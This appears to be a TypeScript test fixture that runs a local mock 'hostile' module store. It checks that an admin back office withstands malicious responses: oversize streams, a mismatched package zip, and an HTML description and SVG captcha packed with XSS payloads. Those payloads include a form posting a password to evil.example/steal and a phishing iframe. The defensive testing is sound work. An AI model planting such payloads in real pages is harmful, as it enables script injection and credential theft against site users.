/**
 * A module store run by someone else, as MARKET_URL may name: a plain HTTP server the test owns
 * that answers what a hostile store would (HTML meant to run in the back office, an answer far
 * larger than any screen asks for (the market page `index/index`, or the preCheck of `huge`), a
 * package whose module.json names another module than the one asked for) and records how much
 * of its latest oversize answer it managed to send.
 */
import { readFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { join } from 'node:path';
import { moduleJson, scratchDir, writeRawZip } from './module-project.js';
import { freePort } from './server-process.js';
import { sha256 } from './store.js';

const HOSTILE_DESCRIPTION = [
  '<p>Useful <b>module</b></p>',
  '<img src="x" onerror="alert(document.cookie)">',
  '<iframe src="https://evil.example/phish"></iframe>',
  '<form action="https://evil.example/steal"><input name="password"></form>',
  '<p style="position:fixed;inset:0">cover</p>',
  '<a href="javascript:alert(1)" onclick="alert(2)">link</a>',
  '<script>alert(3)</script>',
].join('');

/** What the oversize answer offers in all: far more than a screen's answer may be. */
export const OVERSIZE_BYTES = 300 * 1024 * 1024;

export interface HostileStore {
  origin: string;
  /** Bytes of the oversize answer written before the connection ended, and whether all were. */
  oversize: { sent: number; finished: boolean; closedEarly: boolean };
  close(): Promise<void>;
}

/** A package zip whose module.json says `packagedUid`, published as the module `askedUid`. */
function mismatchedPackage(packagedUid: string): Buffer {
  const path = join(scratchDir('portico-hostile-'), 'package.zip');
  writeRawZip(path, [
    { name: 'module.json', data: Buffer.from(JSON.stringify(moduleJson({ uid: packagedUid }))) },
    {
      name: `apps/web/src/modules/${packagedUid}/index.ts`,
      data: Buffer.from("export default 'paid';\n"),
    },
  ]);
  return readFileSync(path);
}

const envelope = (data: unknown) => JSON.stringify({ code: 1, msg: '', time: 0, data });

export async function hostileStore(): Promise<HostileStore> {
  const zip = mismatchedPackage('paidmod');
  const oversize = { sent: 0, finished: false, closedEarly: false };

  /** Writes OVERSIZE_BYTES of JSON text, waiting for the reader: stops when the reader hangs up. */
  async function streamOversize(res: ServerResponse) {
    Object.assign(oversize, { sent: 0, finished: false, closedEarly: false });
    res.writeHead(200, { 'content-type': 'application/json' });
    res.on('close', () => {
      if (!oversize.finished) oversize.closedEarly = true;
    });
    const chunk = Buffer.alloc(64 * 1024, 'a');
    res.write('{"code":1,"msg":"","data":"');
    while (oversize.sent < OVERSIZE_BYTES) {
      if (res.destroyed) return;
      oversize.sent += chunk.length;
      if (!res.write(chunk))
        await new Promise<void>((resolve) => {
          // Whichever comes first takes the other away: a listener left behind per wait was an
          // EventEmitter leak warning in every run.
          const done = () => {
            res.off('drain', done);
            res.off('close', done);
            resolve();
          };
          res.once('drain', done);
          res.once('close', done);
        });
    }
    oversize.finished = true;
    res.end('"}');
  }

  const server = createServer((req: IncomingMessage, res: ServerResponse) => {
    const url = new URL(req.url ?? '/', 'http://store');
    switch (url.pathname) {
      case '/api/store/info':
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(
          envelope({
            uid: url.searchParams.get('uid'),
            title: 'Hostile',
            description: HOSTILE_DESCRIPTION,
            versions: [],
            images: [],
            demos: [],
            developer_works: [],
          }),
        );
        return;
      case '/api/common/captcha':
        res.writeHead(200, { 'content-type': 'image/svg+xml' });
        res.end('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>');
        return;
      case '/api/index/index':
        void streamOversize(res);
        return;
      case '/api/store/preCheck':
        if (url.searchParams.get('uid') === 'huge') return void streamOversize(res);
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(
          envelope({
            uid: url.searchParams.get('uid'),
            listed: true,
            version: '1.0.0',
            sha256: sha256(zip),
            size: zip.length,
            free: true,
            order_id: null,
            expire_time: null,
          }),
        );
        return;
      case '/api/store/download':
        res.writeHead(200, { 'content-type': 'application/zip', 'content-length': zip.length });
        res.end(zip);
        return;
      default:
        res.writeHead(404, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ code: 0, msg: 'not found', time: 0, data: null }));
    }
  });
  const port = await freePort();
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${port}`,
    oversize,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
